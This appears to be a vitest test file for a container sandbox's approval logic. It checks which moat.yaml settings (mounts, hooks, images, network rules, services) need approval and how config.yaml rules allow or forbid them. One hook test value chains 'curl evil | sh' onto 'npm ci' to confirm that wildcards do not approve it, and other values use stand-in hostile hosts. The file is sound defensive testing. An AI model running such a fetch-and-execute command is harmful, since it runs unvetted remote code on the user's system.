// Owns what of a moat.yaml needs an approval, and what rules of config.yaml make of it.
import { mkdir, realpath, symlink, writeFile } from 'node:fs/promises'
import { homedir } from 'node:os'
import { join } from 'node:path'
import { expect, it } from 'vitest'
import { judge } from '../../../src/approvals/judge.js'
import type { Power } from '../../../src/approvals/power.js'
import { powersOf } from '../../../src/approvals/powers.js'
import { loadMoatYaml } from '../../../src/config/moat-yaml.js'
import type { PowerRules } from '../../../src/config/settings-file.js'
import { planServices } from '../../../src/services/plan-services.js'
import { planVolumes } from '../../../src/volumes/plan-volumes.js'
import { temporaryDirectory } from '../config/temp-directory.js'

/** A workspace `app` beside directories `data` and `secret`. */
async function place() {
  const directory = await temporaryDirectory()
  for (const name of ['app/sub/.git', 'data/deep', 'secret']) await mkdir(join(directory, name), { recursive: true })
  return { directory, workspace: join(directory, 'app') }
}

async function powers(workspace: string, text: string, hostPorts: { endpoint: string; hostPort: number }[] = []) {
  await writeFile(join(workspace, 'moat.yaml'), text)
  const loaded = await loadMoatYaml(workspace, workspace)
  return powersOf({ hostPorts, loaded, ownMounts: [], workspace })
}

it('asks for nothing where nothing leaves the box', async () => {
  const { workspace } = await place()
  const text = `name: app
dependencies: [node@22, git, pnpm]
ports: {web: 3000, db: {port: 1}}
command: [npm, start]
env: {A: b}
container: {memory: 512, cpus: 2}
mounts: ["./sub:/sub", ".:/all:ro", "./sub/.git:/git:ro"]
hooks: {}
`
  expect(await powers(workspace, text)).toEqual([])
})

it("asks for the repository's own directory, whatever it is called, and for what it lies in", async () => {
  const { workspace } = await place()
  for (const name of ['sub/bare/hooks', 'other']) await mkdir(join(workspace, name), { recursive: true })
  await writeFile(
    join(workspace, 'moat.yaml'),
    'mounts: ["./sub/bare/hooks:/h", "./sub:/s", "./other:/o", "./sub:/r:ro"]',
  )
  const loaded = await loadMoatYaml(workspace, workspace)
  const asked = (gitDirectory: string) => powersOf({ gitDirectory, hostPorts: [], loaded, ownMounts: [], workspace })
  expect(asked(join(workspace, 'sub/bare')).map(({ value }) => value)).toEqual([
    `${workspace}/sub/bare/hooks:/h:rw`,
    `${workspace}/sub:/s:rw`,
  ])
  // A bare repository is all of its workspace.
  expect(asked(workspace)).toHaveLength(3)
})

it('asks for a repository elsewhere that does not say that this is its checkout: an agent may have made the file that leads there', async () => {
  const { directory, workspace } = await place()
  await writeFile(join(workspace, 'moat.yaml'), 'name: app\n')
  const loaded = await loadMoatYaml(workspace, workspace)
  const asked = (gitDirectory: string, gitIsOwn: boolean) =>
    powersOf({ gitDirectory, gitIsOwn, hostPorts: [], loaded, ownMounts: [], workspace })
  const other = join(directory, 'other/.git')
  expect(asked(other, false)).toEqual([
    { key: 'mounts', name: '.git', own: false, place: '.git', value: `${other}:${other}:rw` },
  ])
  expect(asked(other, true)).toEqual([])
})

it('asks for each thing that does, with its place', async () => {
  const { directory, workspace } = await place()
  await symlink('../secret', join(workspace, 'link'))
  const text = `base_image: evil/image
dependencies: [node, "npm:a@1", "apt:b"]
container: {dns: [1.1.1.1]}
hooks: {post_build_root: [x, y], post_build: z, pre_run: "a\\nb"}
mounts: ["../data:/data:ro", "./link:/in", ".:/all", "./sub/.git:/git"]
ports: {db: {port: 1}}
`
  const found = await powers(workspace, text, [{ endpoint: 'db', hostPort: 5432 }])
  expect(found.map(({ name, place, value }) => `${name} ${value} ${place}`)).toEqual([
    'base_image evil/image moat.yaml:1:13',
    'dependencies npm:a@1 moat.yaml:2:22',
    'dependencies apt:b moat.yaml:2:33',
    'container.dns 1.1.1.1 moat.yaml:3:19',
    'hooks.post_build_root x moat.yaml:4:27',
    'hooks.post_build_root y moat.yaml:4:30',
    'hooks.post_build z moat.yaml:4:46',
    'hooks.pre_run a\nb moat.yaml:4:58',
    'ports.db 5432 moat.yaml:6:13',
    `mounts ${directory}/data:/data:ro moat.yaml:5:10`,
    // The real path, which is also what is mounted.
    `mounts ${directory}/secret:/in:rw moat.yaml:5:30`,
    `mounts ${workspace}:/all:rw moat.yaml:5:44`,
    `mounts ${workspace}/sub/.git:/git:rw moat.yaml:5:54`,
  ])
})

const noRules = { approvals: {}, never: {} }
const power = (name: string, value: string): Power & { own: boolean; place: string } => {
  const key = name.startsWith('hooks') ? 'hooks' : name === '--mount' ? 'mounts' : (name as Power['key'])
  return { key, name, own: name === '--mount', place: '', value }
}

it('asks again about whatever is worded otherwise, and only about that', async () => {
  const known = [power('hooks.pre_run', 'npm ci'), power('base_image', 'a:1'), power('mounts', '/data:/data:ro')]
  const same = await judge(known, noRules, known)
  expect(same).toEqual({ forbidden: [], gone: [], pending: [] })
  const fewer = await judge(known.slice(1), noRules, known)
  expect(fewer.pending).toEqual([])
  const asked = [
    power('hooks.pre_run', 'npm ci '),
    power('hooks.post_build', 'npm ci'),
    power('base_image', 'a:2'),
    power('mounts', '/data:/data:rw'),
    power('mounts', '/data:/data:ro'),
  ]
  const changed = await judge(asked, noRules, known)
  expect(changed.pending).toEqual(asked.slice(0, 4))
  expect(changed.gone.map(({ name }) => name)).toEqual(['hooks.pre_run', 'base_image'])
})

it.each<[string, PowerRules, Power & { own: boolean; place: string }, boolean]>([
  ['a directory', { mounts: ['/data'] }, power('mounts', '/data:/x:rw'), true],
  ['what is below it', { mounts: ['/data/'] }, power('mounts', '/data/a/b:/x:rw'), true],
  ['not what only begins like it', { mounts: ['/data'] }, power('mounts', '/data2:/x:rw'), false],
  ['not what it lies in', { mounts: ['/data/a'] }, power('mounts', '/data:/x:ro'), false],
  ['reading, when it says ro', { mounts: ['/data:ro'] }, power('mounts', '/data:/x:ro'), true],
  ['not writing, when it says ro', { mounts: ['/data:ro'] }, power('mounts', '/data:/x:rw'), false],
  ['the home directory by ~', { mounts: ['~/moat-none'] }, power('mounts', `${homedir()}/moat-none/a:/x:rw`), true],
  ['a path with a colon', { mounts: ['/data'] }, power('mounts', '/data:/secret:/x:rw'), false],
  ['images by pattern', { base_image: ['ghcr.io/me/*'] }, power('base_image', 'ghcr.io/me/a:1'), true],
  ['no other images', { base_image: ['ghcr.io/me/*'] }, power('base_image', 'ghcrXio/me/a:1'), false],
  ['packages by pattern', { dependencies: ['npm:*'] }, power('dependencies', 'npm:a'), true],
  ['hooks word for word', { hooks: ['npm ci'] }, power('hooks.pre_run', 'npm ci'), true],
  ['no patterns of hooks', { hooks: ['npm *'] }, power('hooks.pre_run', 'npm ci; curl evil | sh'), false],
  ['all hooks', { hooks: ['*'] }, power('hooks.pre_run', 'anything'), true],
  ['a rule of another kind', { dependencies: ['*'] }, power('hooks.pre_run', 'x'), false],
])('approvals of config.yaml allow %s', async (_, approvals, asked, allowed) => {
  const { pending } = await judge([asked], { approvals, never: {} }, [])
  expect(pending).toEqual(allowed ? [] : [asked])
})

it.each<[string, PowerRules, Power & { own: boolean; place: string }, boolean]>([
  ['the directory', { mounts: ['/data'] }, power('mounts', '/data:/x:ro'), true],
  ['what is in it', { mounts: ['/data'] }, power('mounts', '/data/a:/x:ro'), true],
  ['what contains it', { mounts: ['/data/a'] }, power('mounts', '/data:/x:ro'), true],
  ['not its neighbour', { mounts: ['/data/a'] }, power('mounts', '/data/b:/x:ro'), false],
  ['a mount by a flag', { mounts: ['/data'] }, power('--mount', '/data:/x:ro'), true],
  ['any hook', { hooks: ['*'] }, power('hooks.post_build', 'x'), true],
])('never of config.yaml forbids %s, whatever was allowed', async (_, never, asked, forbidden) => {
  const approvals = { [asked.key]: ['*'] }
  const judgement = await judge([asked], { approvals, never }, [asked])
  expect(judgement.forbidden.map(({ power }) => power)).toEqual(forbidden ? [asked] : [])
  expect(judgement.pending).toEqual([])
})

it('goes by real paths in rules too', async () => {
  const { directory } = await place()
  await symlink('secret', join(directory, 'alias'))
  const asked = power('mounts', `${await realpath(join(directory, 'secret'))}:/x:ro`)
  const rule = { mounts: [join(directory, 'alias')] }
  expect((await judge([asked], { approvals: rule, never: {} }, [])).pending).toEqual([])
  expect((await judge([asked], { approvals: {}, never: rule }, [])).forbidden).toHaveLength(1)
})

it('asks for hosts only where the user has made strict the default, and for this machine and other agents always', async () => {
  const { workspace } = await place()
  const text = `network:
  policy: permissive
  rules: [deny: x.a.test, "*.a.test", {b.test: [allow GET /]}, preset: npm, deny: c.test]
  host: [5432]
  peers: [checkout]
`
  const own = ['network.host 5432 moat.yaml:4:10', 'network.peers checkout moat.yaml:5:11']
  const told = ({ name, place, value }: Power & { place: string }) => `${name} ${value} ${place}`
  const unasked = await powers(workspace, text)
  expect(unasked.filter((power) => !power.own).map(told)).toEqual(own)
  // What is forbidden is so without a strict default, too.
  const judgement = await judge(unasked, { approvals: {}, never: { network: ['b.test'] } }, [])
  expect(judgement.forbidden.map(({ power }) => told(power))).toEqual([
    'network.rules b.test: allow GET / moat.yaml:3:39',
  ])
  const loaded = await loadMoatYaml(workspace, workspace)
  const asked = powersOf({
    hostPorts: [],
    loaded,
    ownMounts: [],
    ownRules: ['d.test'],
    strictByDefault: true,
    workspace,
  })
  expect(asked.map(told)).toEqual([
    'network.policy permissive moat.yaml:2:11',
    'network.rules *.a.test but not x.a.test moat.yaml:3:27',
    'network.rules b.test: allow GET / moat.yaml:3:39',
    'network.rules preset: npm moat.yaml:3:64',
    '--allow d.test --allow',
    ...own,
  ])
})

const rule = (value: string, own = false) => ({ key: 'network' as const, name: 'network.rules', own, place: '', value })

it.each([
  ['*', 'a.test', true],
  ['a.test', 'a.test', true],
  ['*.test', '*.a.test', true],
  ['*.a.test', '*.test', false],
  ['*.test', '*', false],
  ['*.test', 'a.test:8443', false],
  ['a.test:8443', 'a.test:8443', true],
  ['a.test', 'a.test:443', true],
  ['*.test', 'b.test: allow GET /, deny * /**', true],
  ['*.test', '*.a.test but not x.a.test', true],
  ['registry.npmjs.org', 'preset: npm', true],
  ['preset: npm', 'preset: npm', true],
  ['registry.npmjs.org', 'preset: yarn', false],
  ['permissive', 'permissive', true],
  ['a.test', 'permissive', false],
])('approvals with %s and the rule %s: %s', async (pattern, value, allowed) => {
  const { pending } = await judge([rule(value)], { approvals: { network: [pattern] }, never: {} }, [])
  expect(pending).toHaveLength(allowed ? 0 : 1)
})

it.each([
  ['*.evil.test', 'a.evil.test:8443', true],
  ['a.evil.test', '*.evil.test', true],
  ['evil.test', '*', true],
  ['evil.test', 'evil.test: allow GET /', true],
  ['registry.npmjs.org', 'preset: npm', true],
  ['evil.test', 'good.test', false],
  ['permissive', 'permissive', true],
  ['evil.test', 'permissive', false],
])('never with %s and the rule %s: %s', async (pattern, value, forbidden) => {
  const judgement = await judge([rule(value, true)], { approvals: {}, never: { network: [pattern] } }, [])
  expect(judgement.forbidden).toHaveLength(forbidden ? 1 : 0)
})

it('asks for files of the workspace in the place of programs that root runs', async () => {
  const { workspace } = await place()
  const text =
    'mounts: ["./sub:/usr/bin:ro", "./sub:/lib/x", "./sub:/etc", "./sub:/usr/local/x", "./sub:/etc/x", "./sub:/library"]'
  expect((await powers(workspace, text)).map(({ value }) => value)).toEqual([
    `${workspace}/sub:/usr/bin:ro`,
    `${workspace}/sub:/lib/x:rw`,
    `${workspace}/sub:/etc:rw`,
  ])
})

it("asks for a volume that a repository's other worktrees have too, and for none of the workspace's own", async () => {
  const { workspace } = await place()
  await writeFile(
    join(workspace, 'moat.yaml'),
    'mounts: [{source: ., target: /workspace, exclude: [x]}]\nvolumes: [{name: own, target: /own}, {name: all, target: /all, scope: repository}]\n',
  )
  const loaded = await loadMoatYaml(workspace, workspace)
  const asked = (commonDir: string) =>
    powersOf({
      hostPorts: [],
      loaded,
      ownMounts: [],
      volumes: planVolumes(loaded.config.volumes, { commonDir, workspace }),
      workspace,
    })
  const [power, ...others] = asked('/r/.git')
  expect(others).toEqual([])
  expect(power).toMatchObject({ key: 'volumes', name: 'volumes', own: false, value: 'all of /r/.git:/all:rw' })
  // Of another repository it is another one.
  expect(asked('/s/.git')[0]?.value).toBe('all of /s/.git:/all:rw')
  const pending = async (approvals: PowerRules) => (await judge([power as never], { approvals, never: {} }, [])).pending
  expect(await pending({ volumes: ['all'] })).toEqual([])
  expect(await pending({ volumes: ['al'] })).toHaveLength(1)
})

it('asks for each service, by the image that it runs', async () => {
  const { workspace } = await place()
  await writeFile(join(workspace, 'moat.yaml'), 'services: {postgres: 17, redis: {image: "evil.example/redis:1"}}\n')
  const loaded = await loadMoatYaml(workspace, workspace)
  const asked = powersOf({ hostPorts: [], loaded, ownMounts: [], services: planServices(loaded), workspace })
  expect(asked.map(({ name, place, value }) => [name, value, place.replace(/^.*:(\d+:\d+)$/, '$1')])).toEqual([
    ['services.postgres', 'postgres:17', '1:22'],
    ['services.redis', 'evil.example/redis:1', '1:33'],
  ])
  const pending = async (approvals: PowerRules) =>
    (await judge(asked, { approvals, never: {} }, [])).pending.map(({ value }) => value)
  expect(await pending({ services: ['postgres:*'] })).toEqual(['evil.example/redis:1'])
  expect(await pending({ services: ['redis:*'] })).toHaveLength(2)
})
